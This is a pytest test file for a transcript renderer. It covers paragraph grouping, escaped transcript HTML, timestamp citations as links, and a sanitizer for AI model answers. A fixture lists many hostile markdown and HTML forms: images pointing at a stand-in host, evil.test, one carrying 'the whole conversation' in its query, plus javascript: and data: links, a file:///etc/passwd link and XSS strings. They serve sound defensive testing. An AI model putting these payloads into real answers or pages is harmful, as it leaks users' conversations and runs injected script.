"""The transcript as paragraphs and HTML, and citations as links to their moment (core.render)."""

from __future__ import annotations

import random
import re
import time
from collections import Counter

import pytest

from core.render import (
    citation_seconds,
    link_citations,
    plain_markdown,
    safe_markdown,
    speakers_html,
    transcript_html,
    unlink_citations,
)
from core.transcript import Segment, Transcript, format_timestamp, paragraphs

from support import parse_html


def talk(*segs: tuple[float, float, str], duration: float | None = None, **kw) -> Transcript:
    segments = [Segment(*s) for s in segs]
    return Transcript(segments, duration if duration is not None else max([s.end for s in segments] or [0]), **kw)


def texts(paras: list[list[Segment]]) -> list[list[str]]:
    return [[s.text for s in p] for p in paras]


# --- paragraphs ----------------------------------------------------------------------------------

def test_a_long_pause_starts_a_paragraph():
    t = talk((0, 2, "Hello."), (2.5, 4, "How are you?"), (7, 9, "Fine."), (9.5, 11, "Thanks."))
    assert texts(paragraphs(t)) == [["Hello.", "How are you?"], ["Fine.", "Thanks."]]
    assert texts(paragraphs(t, max_pause=5)) == [["Hello.", "How are you?", "Fine.", "Thanks."]]


def test_segments_without_text_are_left_out():
    t = talk((0, 1, "One."), (1, 2, "  "), (2, 3, ""), (3, 4, "Two."))
    assert texts(paragraphs(t)) == [["One.", "Two."]]
    assert paragraphs(talk((0, 1, " "), (1, 2, ""))) == []
    assert paragraphs(talk()) == []


def test_a_paragraph_is_at_most_max_seconds_and_ends_at_a_sentence():
    # 5 s segments, no pauses; sentences end every third segment.
    segs = [(i * 5.0, i * 5.0 + 5, f"word{i}" + ("." if i % 3 == 2 else "")) for i in range(40)]
    paras = paragraphs(talk(*segs), max_seconds=45)
    assert sum(len(p) for p in paras) == 40
    for p in paras:
        assert p[-1].end - p[0].start <= 45
    for p in paras[:-1]:
        assert p[-1].text.endswith("."), texts(paras)  # broken after a sentence, not mid-sentence
    assert all(len(p) >= 3 for p in paras[:-1])


def test_without_punctuation_a_paragraph_fills_up_to_the_limit():
    segs = [(i * 5.0, i * 5.0 + 5, f"word{i}") for i in range(20)]
    paras = paragraphs(talk(*segs), max_seconds=45)
    assert [len(p) for p in paras] == [9, 9, 2]


def test_a_paragraph_is_at_most_max_chars():
    segs = [(i * 1.0, i * 1.0 + 1, "x" * 99 + ".") for i in range(30)]  # 100 characters each
    paras = paragraphs(talk(*segs), max_chars=600)
    assert [len(p) for p in paras] == [5, 5, 5, 5, 5, 5]  # 5 * 100 + 4 spaces <= 600 < 6 * 100 + 5
    # CJK punctuation ends sentences too
    segs = [(i * 1.0, i * 1.0 + 1, "字" * 50 + ("。" if i % 2 else "")) for i in range(12)]
    paras = paragraphs(talk(*segs), max_chars=300)
    assert all(p[-1].text.endswith("。") for p in paras[:-1]) and sum(map(len, paras)) == 12


def test_a_segment_over_the_limit_is_a_paragraph_of_its_own():
    t = talk((0, 5, "short."), (5, 100, "a very long monologue without a break"), (100, 105, "after."))
    assert texts(paragraphs(t)) == [["short."], ["a very long monologue without a break"], ["after."]]


def test_three_hours_are_grouped_fast():
    rng = random.Random(7)
    segs, t0 = [], 0.0
    for i in range(3000):
        length = rng.uniform(1.5, 5)
        text = " ".join("lorem" for _ in range(rng.randint(3, 15))) + rng.choice([".", "", ",", "?"])
        segs.append((t0, t0 + length, text))
        t0 += length + rng.choice([0.1, 0.3, 0.8, 2.5])
    t = talk(*segs)
    began = time.perf_counter()
    paras = paragraphs(t)
    page = transcript_html(t)
    took = time.perf_counter() - began
    assert took < 1.0, took
    assert sum(map(len, paras)) == 3000
    assert 150 <= len(paras) <= 3000
    assert page.count('<p class="para"') == len(paras)
    assert all(p[-1].end - p[0].start <= 45 for p in paras if len(p) > 1)


# --- transcript HTML -----------------------------------------------------------------------------

def test_transcript_html_shape():
    t = talk((12.34, 15, "Hello there."), (15.5, 40.1, "General Kenobi."), (45, 50, "Later."))
    page = transcript_html(t)
    assert page.startswith('<div id="transcript-doc">') and page.endswith("</div>")
    assert ('<p class="para" dir="auto" data-start="12.34" data-end="40.1">'
            '<a class="ts" href="#t=12.34">[00:12]</a> <span class="seg" data-t="12.34">Hello there.</span> '
            '<span class="seg" data-t="15.5">General Kenobi.</span></p>') in page
    assert '<p class="para" dir="auto" data-start="45" data-end="50"><a class="ts" href="#t=45">[00:45]</a>' in page


def test_hours_in_the_times_of_a_long_recording():
    t = talk((5, 8, "Start."), (3725, 3730, "Late."), duration=3800)
    page = transcript_html(t)
    # the format the model sees (and cites) for a recording over an hour: h:mm:ss throughout
    assert ">[0:00:05]</a>" in page and ">[1:02:05]</a>" in page
    assert format_timestamp(3725) == "1:02:05"


def test_hostile_text_is_escaped():
    evil = ['<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "Tom & Jerry's <b>", "</p></div>"]
    t = talk(*[(i * 3.0, i * 3.0 + 2, s) for i, s in enumerate(evil)], language='en" onclick="x')
    page = transcript_html(t)
    assert "<script" not in page and "<img" not in page and "<b>" not in page and "onclick" not in page
    c = parse_html(page)
    assert {tag for tag, _ in c.tags} == {"div", "p", "a", "span"}
    assert "".join(c.text).count("<script>") == 1  # shown as text
    assert "Tom & Jerry's <b>" in "".join(c.text)
    assert page.count("</div>") == 1


def test_language_and_right_to_left_text():
    t = talk((1, 3, "مرحبا بكم في الاجتماع."), language="ar")
    page = transcript_html(t)
    assert page.startswith('<div id="transcript-doc" lang="ar">')
    assert 'dir="auto"' in page and "مرحبا بكم" in page


def test_an_empty_transcript_gives_a_placeholder():
    for t in (talk(), talk((0, 1, "  ")), None):
        page = transcript_html(t)
        assert page.startswith('<div id="transcript-doc">') and 'class="placeholder"' in page
        assert "para" not in page
    assert "Nada &lt;aún&gt;" in transcript_html(None, empty="Nada <aún>")


# --- citations -----------------------------------------------------------------------------------

@pytest.mark.parametrize("plain, linked", [
    ("At [00:12].", r"At [\[00:12\]](#t=12)."),
    ("[01:02]", r"[\[01:02\]](#t=62)"),
    ("[1:02]", r"[\[1:02\]](#t=62)"),
    ("[1:01:40]", r"[\[1:01:40\]](#t=3700)"),
    ("[0:01:02]", r"[\[0:01:02\]](#t=62)"),
    ("[01:02–01:40]", r"[\[01:02–01:40\]](#t=62)"),
    ("[01:02-01:40]", r"[\[01:02-01:40\]](#t=62)"),
    ("[01:02 – 1:01:40]", r"[\[01:02 – 1:01:40\]](#t=62)"),
    ("[01:02, 03:04]", r"[\[01:02](#t=62), [03:04\]](#t=184)"),
    ("[01:02; 03:04, 05:06]", r"[\[01:02](#t=62); [03:04](#t=184), [05:06\]](#t=306)"),
    ("[ 01:02 ]", r"[\[ 01:02 \]](#t=62)"),
    ("[00:12][00:20]", r"[\[00:12\]](#t=12)[\[00:20\]](#t=20)"),
    ("([00:12])", r"([\[00:12\]](#t=12))"),
    ("[[00:12]]", r"[[\[00:12\]](#t=12)]"),
])
def test_citations_become_links(plain, linked):
    assert link_citations(plain, duration=4000) == linked
    assert unlink_citations(linked) == plain


def test_a_moment_past_the_end_stays_text():
    d = 30.0
    assert link_citations("[00:31] [00:32] [09:00]", d) == r"[\[00:31\]](#t=31) [00:32] [09:00]"  # 1 s tolerance
    assert link_citations("[00:20–00:45]", d) == "[00:20–00:45]"  # a range that ends past it
    mixed = link_citations("[00:12, 09:00, 00:20]", d)
    assert mixed == r"[\[00:12](#t=12), 09:00, [00:20\]](#t=20)"
    assert unlink_citations(mixed) == "[00:12, 09:00, 00:20]"
    mixed = link_citations("[09:00, 00:20]", d)
    assert mixed == r"\[09:00, [00:20\]](#t=20)" and unlink_citations(mixed) == "[09:00, 00:20]"
    assert link_citations("[00:05]", 0) == "[00:05]"


@pytest.mark.parametrize("text", [
    "No citation here.", "[12:3]", "[123:45:67]", "[1234:56]", "[ab:cd]", "[00:60]", "[01:02,]", "[01:02 to 01:40]",
    "a [link](#t=5)", "[01:02](https://example.com)", "[01:02](#t=62)", "![00:12](img.png)", r"\[00:12]",
    "[[00:12]](#t=12)", "`[00:12]`", "``code ` [00:12]``", "```\n[00:12]\n```", "~~~md\n[00:12]\n~~~", "",
    "12:00 without brackets", "time 1:02:03",
])
def test_left_alone(text):
    assert link_citations(text, 4000) == text
    assert unlink_citations(text) == text


def test_code_is_left_alone_and_the_rest_linked():
    text = "See `[00:12]` and [00:12].\n```\n[00:13]\n```\nthen [00:14] and\n    ```\nunclosed [00:15]"
    linked = link_citations(text, 100)
    assert linked == ("See `[00:12]` and [\\[00:12\\]](#t=12).\n```\n[00:13]\n```\nthen [\\[00:14\\]](#t=14) and\n"
                      "    ```\nunclosed [\\[00:15\\]](#t=15)")  # four spaces: not a fence
    assert unlink_citations(linked) == text
    unclosed = "```\n[00:12]"
    assert link_citations(unclosed, 100) == unclosed


def test_linking_twice_changes_nothing():
    for text in ["At [00:12] and [00:20–00:25], not [09:00].", "[00:12, 99:00]", "[[00:12]]", "`x` [1:00:00]"]:
        once = link_citations(text, 3700)
        assert link_citations(once, 3700) == once
        assert unlink_citations(unlink_citations(once)) == text


def test_citation_seconds():
    text = "At [00:12] and [00:20–00:25], [01:00, 1:00:00], not `[00:30]` nor [09:00]."
    assert citation_seconds(text) == [12, 20, 60, 3600, 540]
    assert citation_seconds(text, duration=100) == [12, 20, 60]
    assert citation_seconds(link_citations(text, 100)) == [12, 20, 60, 3600, 540]


ALPHABET = "[]():-–0123456789 #t="
PIECES = [*ALPHABET, "01:02", "1:02:03", "0:05", "75:30", "99:00", ", ", "; ", " – ", "`", "\n```\n", "[00:12]",
          "[01:02–01:40]", "[00:10, 99:00]", "](#t=5)", "[[", "word "]


@pytest.mark.slow  # seconds of work: in the full suite, not the fast tier
@pytest.mark.parametrize("pieces", [list(ALPHABET), PIECES], ids=["alphabet", "pieces"])
def test_unlink_restores_any_text(pieces):
    rng = random.Random(20240601)
    linked = 0
    for _ in range(20_000):
        x = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 24)))
        d = rng.choice([0, 30, 100, 4000, 10_000])
        y = link_citations(x, d)
        linked += y != x
        assert unlink_citations(y) == x, (x, d, y)
        assert link_citations(y, d) == y, (x, d, y)
        added = Counter(re.findall(r"\]\(#t=(\d+)\)", y)) - Counter(re.findall(r"\]\(#t=(\d+)\)", x))
        assert all(int(s) <= d + 1 for s in added), (x, d, y)  # nothing past the end linked
    if pieces == PIECES:  # characters alone rarely make a citation; these pieces often do
        assert linked > 5000, linked


def test_a_citation_lands_on_the_sentence_that_starts_in_that_second():
    starts = [0.5, 6.27, 12.9, 3725.4]
    linked = link_citations("Maria [00:06], then [00:12–00:20] and [1:02:05], [00:30].", 4000, starts)
    assert "(#t=6.27)" in linked and "(#t=12.9)" in linked and "(#t=3725.4)" in linked
    assert "(#t=30)" in linked  # no sentence starts in that second: the second itself
    assert unlink_citations(linked) == "Maria [00:06], then [00:12–00:20] and [1:02:05], [00:30]."
    assert link_citations(linked, 4000, starts) == linked
    assert citation_seconds(linked) == [6, 12, 3725, 30]


# --- answers made safe to show (safe_markdown) ---------------------------------------------------

EVIL = "http://evil.test:8000"
# Every way a model's answer could make the page fetch something, run something, or link elsewhere.
HOSTILE = {
    "inline image": f"Done. ![]({EVIL}/x.png?q=the+whole+conversation)",
    "image with alt and title": f'![chart]({EVIL}/c.png "t")',
    "image in angle brackets": f"![a](<{EVIL}/a.png>)",
    "reference image": f"See ![a][1].\n\n[1]: {EVIL}/ref.png",
    "reference image, collapsed": f"![logo][]\n\n[logo]: {EVIL}/logo.png",
    "reference image, shortcut": f"![logo]\n\n  [logo]: <{EVIL}/logo.png> 'title'",
    "definition in a quote": f"> [q]: {EVIL}/q.png\n\n![x][q]",
    "definition with an escaped bracket": f"[a\\]b]: {EVIL}/esc.png\n\n![x][a\\]b]",
    "definition after a bracket": f"[[a]: {EVIL}/br.png\n\n![x][\\[a]\n\n[b]\n[c]: {EVIL}/two-lines.png\n\n![y][c]",
    "img tag": f'<img src="{EVIL}/img.png">',
    "img tag, uppercase, no quotes": f"<IMG SRC={EVIL}/up.png>",
    "img with srcset": f'<img srcset="{EVIL}/set.png 2x">',
    "picture and source": f'<picture><source srcset="{EVIL}/p.png"><img></picture>',
    "svg image": f'<svg><image href="{EVIL}/svg.png"/></svg>',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "video poster": f'<video poster="{EVIL}/poster.png"></video>',
    "audio": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "style with url()": f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    "link stylesheet": f'<link rel="stylesheet" href="{EVIL}/s.css">',
    "inline style": f'<span style="background:url({EVIL}/span.png)">x</span>',
    "html block": f'<div>\n<img src="{EVIL}/block.png">\n</div>',
    "escaped lt": f'\\<img src="{EVIL}/esc.png">',
    "a javascript": '<a href="javascript:alert(1)">click</a>',
    "markdown javascript": "[click](javascript:alert(1))",
    "javascript, mixed case and spaces": "[click](  JaVaScRiPt:alert(1) )",
    "javascript with entities": "[click](jav&#x61;script&colon;alert(1))",
    "javascript with escapes": "[click](java\\script:alert(1))",
    "javascript in angle brackets": "[click](<javascript:alert(1)>)",
    "javascript reference": "[click][j]\n\n[j]: javascript:alert(1)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "protocol-relative link": "[x](//evil.test/a)",
    "relative path": "[x](/gradio_api/file=/etc/passwd)",
    "another fragment": "[x](#top)",
    "autolink": f"<{EVIL}/auto>",
    "mailto autolink": "<mailto:a@evil.test>",
    "email": "Write to boss@evil.test today.",
    "ftp": "ftp://evil.test/f",
    "entities": f"&#60;img src={EVIL}/ent.png&#62; &lt;img src={EVIL}/ent2.png&gt;",
    "image in link text": f"[![x]({EVIL}/nested.png)](https://example.com/page)",
    "image in image": f"![a ![b]({EVIL}/b.png)]({EVIL}/a.png)",
    "image after an escaped backslash": f"\\\\![]({EVIL}/bs.png)",
    "image in a list and a table": f"- ![]({EVIL}/li.png)\n\n| a |\n|---|\n| ![]({EVIL}/td.png) |",
    "mermaid": f'```mermaid\ngraph TD; A-->B; <img src="{EVIL}/m.png">\n```',
    "mermaid in a list": f'- ```mermaid\n  <img src="{EVIL}/m2.png">\n  ```',
    "code span": f"`<img src={EVIL}/code.png>` ![]({EVIL}/after.png)",
    "escaped backtick": f"\\`![]({EVIL}/tick.png)`",
    "code span across a paragraph": f"`a\n\n![]({EVIL}/para.png)\n\n`",
    "code span across table cells": f"| `x | ![]({EVIL}/cell.png)` |\n|---|---|\n| a | b |",
    "fence that a list ends": f"- item\n\n  ```\n![]({EVIL}/list.png)\n```",
}
ALLOWED_TAGS = {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "br", "hr", "h1", "h2",
                "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s", "del"}


def rendered(markdown: str) -> str:
    """HTML as a CommonMark parser (markdown-it-py, raw HTML on, with GFM tables, any link
    accepted: the page's own markdown is less strict than markdown-it) renders it."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    md.validateLink = lambda url: True
    return md.render(markdown)


def assert_only_text_and_links(markdown: str) -> None:
    page = parse_html(rendered(markdown))
    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS, rendered(markdown)
    for tag, attrs in page.tags:
        assert set(attrs) <= {"a": {"href", "title"}, "code": {"class"}}.get(tag, set()), (tag, attrs)
        if tag == "a":
            assert re.fullmatch(r"#t=\d+(\.\d+)?|https?://[^\s\"'<>]+", attrs["href"]), attrs
    assert not re.search(r"(?<![\\\u200b])@(?=evil)", markdown), "an e-mail address would be an autolink"
    assert not re.search(r"(?i)ftp://", markdown), "an ftp address would be an autolink"
    assert not re.search(r"(?i)(`{3,}|~{3,})\s*mermaid", markdown), "Gradio puts a mermaid fence in as HTML"


@pytest.mark.parametrize("form", HOSTILE)
def test_an_answer_shows_no_image_html_or_foreign_link(form):
    answer = HOSTILE[form]
    safe = safe_markdown(answer)
    assert_only_text_and_links(safe)
    assert_only_text_and_links(link_citations(safe, 100.0))
    assert safe_markdown(safe) == safe, "made safe twice, as a conversation back from the browser is"


def test_pathological_answers_stay_idempotent():
    for answer in ("![" * 3000, "[a](" * 2000, "[" * 1200 + "]:", "@" * 3000, "\\" * 3000 + "<", "![[]" * 2000,
                   "](" + "(" * 3000, "]:" * 3000, "[[a]: http://x\n" * 300):
        safe = safe_markdown(answer)
        assert safe_markdown(safe) == safe and "<" not in safe.replace("&lt;", "")


def test_the_hostile_answers_are_hostile_before():
    """The check above can fail: the forms, left as they are, render an image, HTML or a foreign
    link (but for those kept to check that what is text stays text)."""
    passed = set()
    for form, answer in HOSTILE.items():
        try:
            assert_only_text_and_links(answer)
            passed.add(form)
        except AssertionError:
            pass
    assert passed == {"escaped lt", "entities", "autolink", "definition after a bracket"}  # the last: that
    # escaping does not make a definition of what was none


def test_what_is_hostile_is_shown_as_its_text():
    shown = rendered(safe_markdown(f"Done. ![]({EVIL}/x.png?q=1) <img src=x> [j](javascript:alert(1))"))
    text = re.sub(r"<[^>]+>", "", shown)
    assert "![](http://evil.test:8000/x.png?q=1)" in text and "&lt;img src=x&gt;" in text
    assert "[j](javascript:alert(1))" in text


def test_citations_and_web_links_stay_links():
    answer = ("Maria leaves at [01:02] ([see the plan](https://example.com/plan_(v2)?a=1&b=2 \"Plan\")); "
              "more at <https://example.com/auto> and [the start](#t=0). Code: `a < b`.")
    safe = link_citations(safe_markdown(answer), 100.0, [62.4])
    page = parse_html(rendered(safe))
    hrefs = [dict(attrs)["href"] for tag, attrs in page.tags if tag == "a"]
    assert hrefs == ["#t=62.4", "https://example.com/plan_%28v2%29?a=1&b=2", "#t=0"], rendered(safe)
    assert "<code>a &lt; b</code>" in rendered(safe), "code is shown as it is"
    assert unlink_citations(safe).startswith("Maria leaves at [01:02] (")


def test_a_web_link_written_with_entities_or_escapes_is_written_back_plainly():
    assert safe_markdown("[x](&#104;ttps://example.com/\\_a)") == "[x](https://example.com/_a)"
    assert safe_markdown("[x](<https://example.com/a>)") == "[x](https://example.com/a)"


def test_code_keeps_its_text_but_defuses_what_would_be_markup():
    safe = safe_markdown("```python\nif a<b and c[0](1): print('x@y.z')\n```\nand `<b>`")
    assert safe.replace("\u200b", "") == "```python\nif a<b and c[0](1): print('x@y.z')\n```\nand `<b>`"
    assert "<b" not in safe and "](" not in safe, "should markdown read it as text after all"


def test_a_name_or_title_is_shown_as_it_is():
    name = "![x](http://evil.test/n.png) <img src=x> **bold** #1\n- item"
    shown = rendered(f"**{plain_markdown(name)}**")
    assert shown == "<p><strong>![x](http://evil.test/n.png) &lt;img src=x&gt; **bold** #1 - item</strong></p>\n"


def test_speaker_names_are_escaped_in_the_transcript():
    name = f'<img src="{EVIL}/spk.png"> ![]({EVIL}/spk2.png)'
    t = talk((0, 2, "Hello <b>there</b>.", "S1"), (2.5, 4, "Fine.", "S1"))
    t.meta.speakers["S1"] = name
    for html_ in (transcript_html(t), speakers_html(t)):
        page = parse_html(html_)
        assert not any(tag in ("img", "b") for tag, _ in page.tags), html_
        assert name in "".join(page.text) or name in html_.replace("&lt;", "<").replace("&gt;", ">").replace(
            "&quot;", '"'), html_
